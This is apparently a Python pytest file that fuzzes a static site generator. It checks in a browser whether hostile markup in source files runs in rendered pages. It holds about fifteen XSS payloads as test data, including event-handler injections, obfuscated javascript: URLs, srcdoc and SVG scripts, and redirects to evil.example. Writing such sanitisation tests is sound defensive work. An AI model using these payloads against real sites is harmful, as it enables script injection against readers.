"""Nothing that others wrote runs in a reader's page, even where no policy would stop it."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from . import fuzz_passive
from .fuzz_passive import Outcome, configurations, fuzz, load, named, tell
from .hostile import Case, cases

CASES = 45
"""A few of them: `python -m tests.fuzz_passive 20000` draws more."""

HEAD = '<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="{}"></head>'
RUNS = {
    1: "<noscript><p title=\"</noscript><img src=x onerror='ran(1)'>\"></noscript>",
    2: "<svg><a xlink:href='javascript:ran(2)'><text>x</text></a></svg>",
    3: "<svg><a><animate attributeName=href values='javascript:ran(3)' /><text>x</text></a></svg>",
    4: "<body onload=ran(4)>",
    5: "<p onmouseover=ran(5)>x</p>",
    6: "<script src=../n.txt?6></script>",
    7: "<iframe srcdoc='<script>parent.ran(7)</script>'></iframe>",
    8: "<a href='&#1;java&Tab;script&colon;ran(8)'>x</a>",
    9: "<link rel=stylesheet href='https://evil.example/9'>",
    10: "<meta http-equiv=refresh content='0;url=//evil.example/10'>",
    11: "<form><button formaction=JavaScript:ran(11)>x</button></form>",
    12: "<div><template shadowrootmode=open><p onclick=ran(12)>x</p></template></div>",
    13: "<script>alert()</script>",
    14: "<base href='//evil.example/'><script src=14></script>",
}
QUIET = (
    "<p title='<script>ran(20)</script>' data-href='javascript:ran(20)'>javascript:ran(20)</p>"
    "<!-- <script>ran(20)</script> --><a href='a/javascript:ran(20)'>x</a>"
    "<img src='https://evil.example/20'>"
)
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg"><script>ran({})</script></svg>'


@pytest.mark.browser
def test_what_runs_is_seen_and_what_rests_is_not(browser: Browser, tmp_path: Path) -> None:
    policy = HEAD.format("default-src 'none'")
    for number, text in RUNS.items():
        page = tmp_path / f"z{number}z/index.html"
        page.parent.mkdir()
        page.write_text(policy + text, "utf-8")
    (tmp_path / "z20z.html").write_text(policy + QUIET, "utf-8")
    (tmp_path / "z21z.svg").write_text(DRAWING.format(21), "utf-8")
    outcome = Outcome()
    load(browser, tmp_path, outcome, fuzz_passive.PATIENCE)
    assert outcome.loaded == len(RUNS) + 2
    assert outcome.failed == {*RUNS, 21}
    assert {1, 4, 5, 6, 7, 12, 13, 21} <= set(outcome.ran)
    assert {2, 3, 8, 11} <= set(outcome.waiting)
    assert {9, 10, 14} <= set(outcome.left)


@pytest.mark.large
def test_a_seed_gives_the_same_cases() -> None:
    first, second = cases(300, 7), cases(300, 7)
    assert [case.files for case in first] == [case.files for case in second]
    assert [case.files for case in first] != [case.files for case in cases(300, 8)]
    assert {case.sort for case in cases(2000, 7)} == {
        *("page", "front matter", "event", "name", "svg", "suffix", "published", "taken", "entity"),
        *("recording", "course", "post", "notice"),
    }


def test_the_refused_are_found_by_what_the_command_says() -> None:
    there = [
        Case(3, "page", {"content/z3z.md": b""}),
        Case(4, "name", {"content/z4z/a\nb.md": b""}),
        Case(5, "taken", {"content/sw.js": b""}),
        Case(6, "page", {"content/z6z.md": b""}),
        Case(7, "page", {"content/z7z.md": b""}),
    ]
    said = (
        "content/z6z.md:1:1: warning[x]: z3z\n"
        "content/z4z/a\nb.md:1:2: error[x]: y z7z\n"
        "content/sw.js:1:1: error[y]: z\n"
        "content/z3z.md:10:20: error[y]: z\n3 errors\n"
    )
    assert named(said, there) == {3, 4, 5}
    assert named("content/z6z.md:1:1: warning[x]: y\nERROR: z7z/index.html: no\n", there) == {7}
    assert named("ERROR: no\n", there) == set()


@pytest.mark.deep
@pytest.mark.browser
@pytest.mark.parametrize(
    "config",
    [config for config, _ in configurations()],
    ids=["many extensions", "few extensions", "all in the menu"],
)
def test_hostile_sources_run_nothing(config: str, browser: Browser) -> None:
    # A menu of every page takes long: it is in every page.
    drawn = cases(CASES if "\nnav:" in config else CASES // 3, len(config))
    outcome = Outcome()
    fuzz(browser, drawn, config, outcome)
    tell(outcome, outcome.failed, drawn, {})
    assert outcome.loaded > fuzz_passive.TOGETHER
    assert outcome.built.total() > CASES / 10
    assert outcome.failed == set()
